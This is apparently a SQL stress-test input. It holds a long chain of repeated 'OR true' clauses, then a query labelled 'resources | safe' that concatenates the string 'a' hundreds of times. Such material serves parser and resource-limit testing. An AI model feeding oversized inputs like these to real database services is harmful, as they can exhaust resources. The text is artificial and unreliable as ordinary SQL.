OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true OR true

-- resources | safe
SELECT 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 'a' || 